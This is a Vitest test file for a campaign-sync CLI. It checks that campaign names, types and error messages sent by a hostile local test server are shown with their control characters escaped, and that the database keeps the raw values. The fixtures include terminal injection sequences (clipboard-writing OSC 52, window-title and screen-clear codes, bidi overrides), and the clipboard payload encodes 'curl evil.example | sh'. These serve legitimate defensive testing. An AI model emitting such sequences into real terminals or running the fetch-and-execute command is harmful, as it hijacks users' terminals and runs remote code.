/**
 * Terminal injection: what the service sends (campaign names, types, error messages) is shown with its
 * control characters escaped on every human path, while the mirror keeps it exactly as sent.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../../src/store/sqlite/db.js';
import { cell, safeJson, showLines, showText } from '../../../src/ui/escape.js';
import { Output } from '../../../src/ui/output.js';
import { renderTable } from '../../../src/ui/table.js';
import { type CliResult, tempDir } from '../../helpers/index.js';
import { runCli } from '../../helpers/run-cli.js';

const ESC = '\x1b';
const BEL = '\x07';
/** OSC 52 writes the clipboard; OSC 0 sets the window title; CSI 2J clears the screen; 0x9b is a one-character CSI. */
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const TITLE = `${ESC}]0;you have been owned${BEL}`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const C1_CSI = '\x9b31m';

/** Anything a terminal could act on: C0 but LF, DEL, C1, bidi overrides and isolates, line separators. */
// Line feeds and tabs (TSV tables in pipes) are ours; every other control character must arrive escaped.
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

const SESSION_ID = 'aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa';
const ROLE_ID = 'bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb';
const ODD_ID = 'cccccccc-cccc-4ccc-8ccc-cccccccccccc';
const LONG = 'Support EMEA '.repeat(10);

const CAMPAIGNS = [
  {
    id: SESSION_ID,
    name: `sess${OSC52}${CLEAR}`,
    display_name: `${TITLE}${LONG}\u202eevil`,
    type: 'SESSION_COMPLETION',
    created_at: '2026-01-01T00:00:00Z',
  },
  { id: ROLE_ID, name: `role${C1_CSI}\u2028next`, display_name: 'Role', type: 'ROLE_SUBMISSION', created_at: '2026-01-02T00:00:00Z' },
  { id: ODD_ID, name: `odd${CLEAR}`, display_name: 'Odd', type: `WEIRD${ESC}[31m`, created_at: '2026-01-03T00:00:00Z' },
];
const CAMPAIGN_TEXTS = CAMPAIGNS.map((c) => JSON.stringify(c));
const RECORD = {
  id: `rec${ESC}[2J`,
  score: 3.5,
  campaign: { id: SESSION_ID, name: `sess${OSC52}` },
  user: { id: 'u1', email: `x${TITLE}@example.com` },
  scenario: { id: 's1', name: `scenario${CLEAR}`, type: { key: 'EMAIL', label: 'Email' } },
  eval_results: [],
  order_index: 1,
};
const RECORD_TEXT = JSON.stringify(RECORD);
const ERROR_MESSAGE = `Not found${CLEAR}${OSC52}${TITLE}`;

/** A test-only service: the hostile campaigns above; role results answer 404 with a hostile message. */
interface Hostile {
  server: Server;
  url: string;
  /** The next n campaign lists answer 503 with a hostile message (to show the retry line). */
  failLists: number;
  /** Every campaign list answers 404 with a hostile message (to show main's error line). */
  brokenList: boolean;
}

function send(res: ServerResponse, status: number, text: string) {
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(text);
}

function errorBody(status: number) {
  return JSON.stringify({ error: { message: ERROR_MESSAGE, status_code: status, request_id: `req${ESC}[2J` } });
}

async function hostileService(): Promise<Hostile> {
  const state = { failLists: 0, brokenList: false } as Hostile;
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/v1/campaigns') {
      if (state.brokenList) return send(res, 404, errorBody(404));
      if (state.failLists > 0) {
        state.failLists--;
        return send(res, 503, errorBody(503));
      }
      return send(res, 200, `{"data":[${CAMPAIGN_TEXTS.join(',')}]}`);
    }
    if (url.pathname === '/v1/campaigns/session/results') {
      const after = url.searchParams.get('starting_after');
      return send(
        res,
        200,
        after === null ? `{"data":[${RECORD_TEXT}],"has_more":false,"last_record_index":1}` : '{"data":[],"has_more":false}',
      );
    }
    return send(res, 404, errorBody(404));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  state.server = server;
  state.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return state;
}

function expectClean(label: string, r: CliResult) {
  for (const [stream, text] of [
    ['stdout', r.stdout],
    ['stderr', r.stderr],
  ] as const) {
    const m = UNSAFE.exec(text);
    expect(m, `${label} ${stream} holds U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')}: ${JSON.stringify(text)}`).toBeNull();
  }
}

describe('showText', () => {
  it('escapes C0, DEL, C1, bidi controls and line separators; leaves other text alone', () => {
    expect(showText(`a${OSC52}b`)).toBe('a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07b');
    expect(showText('tab\there\nline\rcr\x00nul\x7fdel')).toBe('tab\\there\\nline\\rcr\\x00nul\\x7fdel');
    expect(showText('\x9b31m\x85\u202eabc\u2066\u2028\u2029\u200f')).toBe('\\x9b31m\\x85\\u202eabc\\u2066\\u2028\\u2029\\u200f');
    expect(showText('Réponse ✓ 日本語 🎉 \\x1b')).toBe('Réponse ✓ 日本語 🎉 \\x1b');
    expect(showText('lone \ud800 surrogate')).toBe('lone \\ud800 surrogate');
    // Escaping is idempotent, so a second layer (Output) never mangles what a first layer (a table) escaped.
    const once = showText(`${CLEAR}${TITLE}\u202e`);
    expect(showText(once)).toBe(once);
    expect(showLines(`one${ESC}\ntwo`)).toBe('one\\x1b\ntwo');
  });

  it('cuts long cells with an ellipsis, by character', () => {
    expect(cell('x'.repeat(60))).toBe('x'.repeat(60));
    expect(cell('x'.repeat(61))).toBe(`${'x'.repeat(59)}…`);
    expect(Array.from(cell('🎉'.repeat(100))).length).toBe(60);
    expect(cell(`${ESC}[2J`, 10)).toBe('\\x1b[2J');
    const table = renderTable(['name'], [[`a${OSC52}${LONG}`]]);
    expect(UNSAFE.test(table)).toBe(false);
    expect(table).toContain('a\\x1b]52;c;');
    expect(table).toContain('…');
  });

  it('Output escapes what it is given but keeps its own colours; JSON stays JSON', () => {
    let err = '';
    let out = '';
    const stream = (add: (s: string) => void) =>
      Object.assign(
        new Writable({
          write(chunk, _enc, done) {
            add(String(chunk));
            done();
          },
        }),
        { isTTY: true },
      );
    const o = new Output({}, { stdout: stream((s) => (out += s)), stderr: stream((s) => (err += s)) }, {});
    o.warn(`w${CLEAR}`);
    o.error(`e\n${TITLE}`);
    o.info(`i${C1_CSI}`);
    o.print(`p${ESC}[2J\nsecond line`);
    expect(err).toBe('\x1b[33mwarning:\x1b[39m w\\x1b[2J\\x1b[H\n\x1b[31merror:\x1b[39m e\\n\\x1b]0;you have been owned\\x07\ni\\x9b31m\n');
    expect(out).toBe('p\\x1b[2J\nsecond line\n');
    const json = new Output({ json: true }, { stdout: stream((s) => (out = s)), stderr: stream(() => {}) }, {});
    const value = { name: CAMPAIGNS[0]?.name, other: `${C1_CSI}\u2028\u202e\x7f` };
    json.document(value);
    expect(UNSAFE.test(out)).toBe(false);
    expect(JSON.parse(out)).toEqual(value);
    expect(JSON.parse(safeJson(JSON.stringify(value)))).toEqual(value);
  });
});

describe('a hostile service reaches no terminal', () => {
  let svc: Hostile;
  let broken: Hostile;
  let db: string;
  const env = () => ({ CAMPAIGN_SYNC_BASE_URL: svc.url, CAMPAIGN_SYNC_API_KEY: 'k' });

  beforeAll(async () => {
    svc = await hostileService();
    broken = await hostileService();
    broken.brokenList = true;
    db = join(tempDir(), 'm.db');
  });

  afterAll(async () => {
    for (const s of [svc, broken]) {
      s.server.closeAllConnections();
      await new Promise((r) => s.server.close(r));
    }
  });

  it('campaigns, pull, watch, status and error lines escape every control character', async () => {
    const runs: Array<[string, CliResult]> = [];
    const run = async (label: string, args: string[], e: Record<string, string> = env()) => {
      const r = await runCli(args, { env: e });
      runs.push([label, r]);
      return r;
    };

    const campaigns = await run('campaigns', ['campaigns', '--db', db]);
    expect(campaigns.code).toBe(0);
    expect(campaigns.stdout).toContain('sess\\x1b]52;c;');
    expect(campaigns.stdout).toContain('\\x1b]0;you have been owned\\x07Support EMEA');
    expect(campaigns.stdout).toContain('WEIRD\\x1b[31m');
    // In a pipe the table is TSV: nothing is cut, every control character still escaped.
    expect(campaigns.stdout.split('\n')[0]).toBe('id\tname\tdisplay name\ttype\tcreated');

    svc.failLists = 1;
    const pull = await run('pull', ['pull', '--db', db, '--max-retries', '1']);
    expect(pull.code).toBe(4);
    expect(pull.stderr).toMatch(/retrying in .*503 Not found\\x1b\[2J\\x1b\[H\\x1b\]52;c;/);
    expect(pull.stderr).toContain('campaign odd\\x1b[2J\\x1b[H (cccccccc-cccc-4ccc-8ccc-cccccccccccc) has type WEIRD\\x1b[31m');
    expect(pull.stdout).toContain('sess\\x1b]52;c;');
    expect(pull.stdout).toContain('failed: role\\x9b31m\\u2028next (role DETAILED): 404 Not found');
    expect(pull.stdout).toContain('404 Not found\\x1b[2J');
    expect(pull.stdout).toContain('skipped: odd\\x1b[2J\\x1b[H (cccccccc-cccc-4ccc-8ccc-cccccccccccc): type WEIRD\\x1b[31m');

    const watch = await run('watch', ['watch', '--db', db, '--max-cycles', '1', '--interval', '1s']);
    expect(watch.code).toBe(4);
    expect(watch.stderr).toMatch(
      /error: \S+ pass 1: role\\x9b31m\\u2028next \(role DETAILED\): 404 Not found.* — GET \/v1\/campaigns\/role\/results/,
    );

    const status = await run('status', ['status', '--db', db], {});
    expect(status.code).toBe(0);
    expect(status.stdout).toContain('sess\\x1b]52;c;');
    expect(status.stdout).toContain('404 Not found\\x1b[2J');
    expect(status.stdout).toContain('skipped: odd\\x1b[2J\\x1b[H (cccccccc-cccc-4ccc-8ccc-cccccccccccc): campaign type WEIRD\\x1b[31m');

    const failing = await run('error line', ['campaigns', '--db', db], { CAMPAIGN_SYNC_BASE_URL: broken.url, CAMPAIGN_SYNC_API_KEY: 'k' });
    expect(failing.code).toBe(4);
    expect(failing.stderr).toMatch(
      /^campaign-sync: 404 Not found\\x1b\[2J\\x1b\[H\\x1b\]52;c;.*\\x07: nothing at .* — GET \/v1\/campaigns \[request_id req\\x1b\[2J\]\n$/,
    );

    // --quiet still prints nothing on success and exit 4, and --json is a JSON document holding the exact values.
    const quiet = await run('pull --quiet', ['pull', '--db', db, '--quiet']);
    expect(quiet.code).toBe(4);
    expect(quiet.stdout).toBe('');
    const json = await run('campaigns --json', ['campaigns', '--db', db, '--json']);
    expect(JSON.parse(json.stdout)).toEqual({ data: CAMPAIGNS });
    expect(json.stderr).toBe('');
    const pullJson = await run('pull --json', ['pull', '--db', db, '--json']);
    const doc = JSON.parse(pullJson.stdout);
    expect(doc.streams.map((s: { campaign_name: string }) => s.campaign_name).sort()).toEqual(
      [CAMPAIGNS[0]?.name, CAMPAIGNS[1]?.name].sort(),
    );
    expect(doc.streams.find((s: { error: string | null }) => s.error)?.error).toContain(`404 ${ERROR_MESSAGE}`);
    const statusJson = await run('status --json', ['status', '--db', db, '--json'], {});
    expect(JSON.parse(statusJson.stdout).skipped).toEqual([
      { id: ODD_ID, name: CAMPAIGNS[2]?.name, type: CAMPAIGNS[2]?.type, reason: 'campaign type not supported' },
    ]);
    const watchJson = await run('watch --json', ['watch', '--db', db, '--max-cycles', '1', '--interval', '1s', '--json']);
    expect(JSON.parse(watchJson.stdout.trim()).streams.length).toBe(2);

    for (const [label, r] of runs) expectClean(label, r);

    // The mirror keeps exactly what was served.
    const d = openDatabase(db, { readonly: true });
    const stored = d.prepare('SELECT id, name, display_name, type, raw FROM campaigns ORDER BY id').all() as Array<Record<string, string>>;
    expect(stored.map((c) => c.raw)).toEqual(CAMPAIGN_TEXTS);
    expect(stored.map((c) => [c.name, c.display_name, c.type])).toEqual(CAMPAIGNS.map((c) => [c.name, c.display_name, c.type]));
    expect(d.prepare('SELECT raw FROM session_results').pluck().all()).toEqual([RECORD_TEXT]);
    expect(d.prepare('SELECT scenario_name FROM session_results').pluck().get()).toBe(RECORD.scenario.name);
    const lastError = d.prepare('SELECT last_error FROM sync_state WHERE campaign_id = ?').pluck().get(ROLE_ID) as string;
    expect(lastError).toContain(ERROR_MESSAGE);
    d.close();
  });
});
